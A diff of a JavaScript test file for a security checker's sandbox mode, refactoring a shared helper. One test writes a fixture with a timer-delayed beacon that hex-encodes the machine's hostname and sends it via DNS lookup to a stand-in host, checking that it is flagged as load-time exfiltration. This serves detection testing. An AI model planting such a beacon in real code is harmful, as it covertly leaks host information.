@@ -6,7 +6,7 @@ const assert = require('node:assert/strict');
 const fs = require('node:fs');
 const os = require('node:os');
 const path = require('node:path');
-const { runCheck } = require('../../../server/dist/cli/check.js');
+const { checkIn: check } = require('../../support/run-check');
 const { allRules } = require('../../../server/dist/core/security/registry.js');
 
 const BACKDOORS = path.join(__dirname, '..', '..', 'fixtures', 'backdoors');
@@ -22,18 +22,6 @@ function workspace() {
   const config = path.join(dir, 'orbit.json');
   fs.writeFileSync(config, JSON.stringify({ pool: { size: 1 }, rules: Object.fromEntries(allRules().map((r) => [r.id, 'off'])) }));
   return { dir, config };
-}
-
-async function check(cwd, args) {
-  const previous = process.cwd();
-  process.chdir(cwd);
-  let out = '';
-  try {
-    const code = await runCheck(args, { out: (t) => (out += t), err: () => undefined, color: false, progress: false }, new AbortController().signal);
-    return { code, out };
-  } finally {
-    process.chdir(previous);
-  }
 }
 
 const { dir, config } = workspace();
@@ -113,15 +101,8 @@ ${backdoor}`);
 test('check --sandbox also runs a file\'s top level: a beacon set on a 90-second timer at load is reported', async () => {
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-load-'));
   fs.writeFileSync(path.join(dir, 'telemetry.js'), "const os = require('os');\nsetTimeout(() => {\n  require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.t.example', () => {});\n}, 90000);\nmodule.exports = {};\n");
-  const previous = process.cwd();
-  process.chdir(dir);
-  let out = '';
-  try {
-    const code = await runCheck(['--sandbox', '--format', 'json', '.'], { out: (t) => (out += t), err: () => {}, color: false, progress: false }, new AbortController().signal);
-    assert.equal(code, 1);
-  } finally {
-    process.chdir(previous);
-  }
+  const { code, out } = await check(dir, ['--sandbox', '--format', 'json', '.']);
+  assert.equal(code, 1);
   const f = JSON.parse(out).findings.filter((x) => x.ruleId === 'load-exfiltration');
   assert.equal(f.length, 1, out);
   assert.match(f[0].message, /os\.hostname\(\).*DNS.*hex/);
